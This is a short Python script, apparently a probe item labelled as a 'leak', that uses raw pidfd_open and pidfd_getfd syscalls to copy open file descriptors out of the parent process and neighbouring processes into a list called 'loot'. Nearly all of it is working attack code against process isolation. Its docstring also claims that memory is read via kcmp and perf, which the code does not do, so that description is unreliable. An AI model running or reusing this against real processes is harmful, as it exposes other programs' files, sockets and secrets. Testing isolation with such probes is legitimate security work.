"""Takes the files that another process has open with pidfd_getfd, and its memory with kcmp and perf."""

# on: q8
# kind: leak

import ctypes
import os

libc, loot = ctypes.CDLL(None, use_errno=True), []
for pid in (os.getppid(), os.getpid() + 1, os.getpid() + 2):
    handle = libc.syscall(434, pid, 0)  # pidfd_open
    for number in range(3, 30) if handle >= 0 else ():
        if libc.syscall(438, handle, number, 0) >= 0:  # pidfd_getfd
            loot.append((pid, number))
